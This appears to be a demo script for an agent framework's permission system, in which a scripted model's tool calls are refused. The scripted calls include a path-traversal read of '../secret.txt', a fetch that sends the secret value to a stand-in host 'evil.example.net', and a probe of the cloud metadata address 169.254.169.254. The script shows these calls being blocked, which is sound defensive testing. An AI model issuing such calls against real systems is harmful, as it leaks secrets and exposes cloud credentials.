"""What a blueprint does not permit is refused: the model is told, and so is whoever runs it."""

from __future__ import annotations

import asyncio
import tempfile
from pathlib import Path

from agent_factory.core import ToolMessage, ToolRegistry
from agent_factory.core.blueprints import Adapters, ModelSettings, assemble, parse_blueprint
from agent_factory.core.models import Model
from agent_factory.core.permissions import Denial
from agent_factory.core.testing import ScriptedModel, create_tool_call
from agent_factory.integrations.tools import create_builtin_entries

__all__ = ["main", "run"]

BLUEPRINT = b"""\
schema: agent-factory/blueprint@1
name: curious
version: 0.1.0

agent:
  instructions: Answer from the notes.
  tools: [notes, fetch]
tools:
  notes: {use: read_file, with: {folder: notes}}
  fetch: http_fetch

permissions:
  models: [default]
  tools: [read_file, http_fetch]
  hosts: [api.example.com]
  files: {read: [notes]}
"""


async def run(folder: Path) -> None:
    """Let a model try what it may and what it may not.

    Args:
        folder: The folder of the blueprint.
    """
    (folder / "notes").mkdir()
    (folder / "notes/plan.md").write_text("Sell lids.\n", encoding="utf-8")
    (folder / "secret.txt").write_text("1234\n", encoding="utf-8")
    model = ScriptedModel(
        [
            create_tool_call("notes", {"path": "plan.md"}),
            create_tool_call("notes", {"path": "../secret.txt"}),
            create_tool_call("fetch", {"url": "https://evil.example.net/?q=1234"}),
            create_tool_call("fetch", {"url": "http://169.254.169.254/latest/meta-data/"}),
            "We sell lids.",
        ]
    )

    def create_model(use: str, settings: ModelSettings) -> Model:
        del use, settings
        return model

    adapters = Adapters(ToolRegistry(create_builtin_entries()), create_model)

    def tell(denial: Denial) -> None:
        print(f"refused: {denial.kind} {denial.target}")

    file = parse_blueprint(BLUEPRINT, name="curious.yaml", folder=folder)
    assembly = assemble(file, adapters, on_denied=tell)
    agent = assembly.agents[assembly.entry]
    result = await agent.run("What is the plan?", deps=None, options=assembly.create_options())
    await assembly.aclose()
    for message in result.messages:
        if isinstance(message, ToolMessage):
            print(f"{message.outcome}: {message.content}")
    print(result.output)


def main() -> None:
    """Run the blueprint in a folder that is gone afterwards."""
    with tempfile.TemporaryDirectory() as folder:
        asyncio.run(run(Path(folder)))


if __name__ == "__main__":
    main()
